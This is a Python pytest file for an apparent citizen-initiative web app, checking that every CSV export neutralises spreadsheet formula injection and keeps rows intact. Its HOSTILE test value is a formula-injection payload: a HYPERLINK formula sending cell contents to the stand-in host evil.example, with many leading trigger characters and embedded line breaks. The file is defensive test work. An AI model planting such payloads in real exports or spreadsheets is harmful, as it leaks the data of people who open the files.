"""C7: no cell of any table is a formula, whoever wrote it, and every row stays one row."""

import csv
from io import BytesIO, StringIO
from pathlib import Path
from zipfile import ZipFile

import pytest
from flask import Flask
from sqlalchemy import select
from sqlalchemy.orm import Session

from participation.commands.working import kinds
from participation.db import begin_write
from participation.jobs.worker import Runner
from participation.organisations.models import Organisation
from participation.web.tables import FORMULAS, table
from tests import network, visits
from tests.templates import settings_for

STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n", "\x00", "\t=")  # noqa: RUF001  # in full width
HOSTILE = '{}HYPERLINK("http://evil.example?"&A1;"x");\r\n"quoted", {}'
ANYONE = ("statistics.csv",)
FOR_ADMINISTRATORS = ("admin/journal.csv",)
# Of each table the columns in which somebody's own words stand.
TYPED = {
    "initiatives": {"title", "summary", "proposer_name"}, "asks": {"text"}, "co-signatures": {"name"},
}  # fmt: skip


def cells(text: str) -> list[list[str]]:
    rows = list(csv.reader(StringIO(text, newline="")))
    assert len({len(row) for row in rows}) == 1, "a row has fallen apart"
    return rows


@pytest.mark.parametrize("start", STARTS)
def test_c7_whatever_a_cell_begins_with_it_stays_a_text(start: str) -> None:
    typed = HOSTILE.format(start, start)
    rows = cells(table([("a", "b", "c"), (typed, 7, "x"), ("y", typed, -1)]))
    assert len(rows) == 3
    assert [rows[1], rows[2]] == [["'" + typed, "7", "x"], ["y", "'" + typed, "-1"]]


def test_c7_no_table_is_written_any_other_way() -> None:
    writing = {str(one) for one in Path("participation").rglob("*.py") if "csv.writer" in one.read_text()}
    assert writing == {"participation/web/tables.py"}


def test_c7_every_column_of_every_table_is_harmless(site: Flask, net: Session) -> None:
    begin_write(net)
    for number, body in enumerate(net.scalars(select(Organisation))):
        body.name = HOSTILE.format(STARTS[number], body.slug)
    words = {name: HOSTILE.format("=", name) for name in ("title", "summary")}
    asks = [{**ask, "text": HOSTILE.format("@", "ask")} for ask in network.TEXT["asks"]]
    made = [network.standing_at(net, state, **words, asks=asks) for state in ("published", "concluded")]
    net.commit()
    archive = ZipFile(BytesIO(open_data(site, net)))
    assert {name.removesuffix(".csv") for name in archive.namelist()} == TYPED.keys()
    for name, typed in TYPED.items():
        head, *rows = cells(archive.read(f"{name}.csv").decode("utf-8-sig"))
        assert len(rows) == {"initiatives": 2, "asks": 4, "co-signatures": 6}[name]
        assert {row[0] for row in rows} == set(made)
        for row in rows:
            assert not [cell for cell in row if cell[:1] in FORMULAS and cell]
            assert {column for column, cell in zip(head, row, strict=True) if cell[:1] == "'"} == typed


def open_data(site: Flask, net: Session, form: str = "csv") -> bytes:
    client = visits.enter(site, "fire")
    path = visits.send(client, "/en/open-data", "fire", format=form).headers["Location"]
    Runner(kinds(settings_for("sqlite:///x"))).run(net, int(path.rpartition("/")[2]))
    net.rollback()
    return bytes(client.get(f"{path}/file").data)


def test_c7_the_tables_of_pages_are_harmless_and_none_is_forgotten(site: Flask, net: Session) -> None:
    begin_write(net)
    network.standing_at(net, "published")
    net.commit()
    addresses = {rule.rule.removeprefix("/<lang>/") for rule in site.url_map.iter_rules() if rule.rule.endswith(".csv")}
    assert addresses == {*ANYONE, *FOR_ADMINISTRATORS}
    for address in sorted(addresses):
        rows = cells(visits.enter(site, "admin").get(f"/nl/{address}").get_data(as_text=True))
        assert len(rows) > 5
        assert not [cell for row in rows for cell in row if cell and cell[0] in FORMULAS]
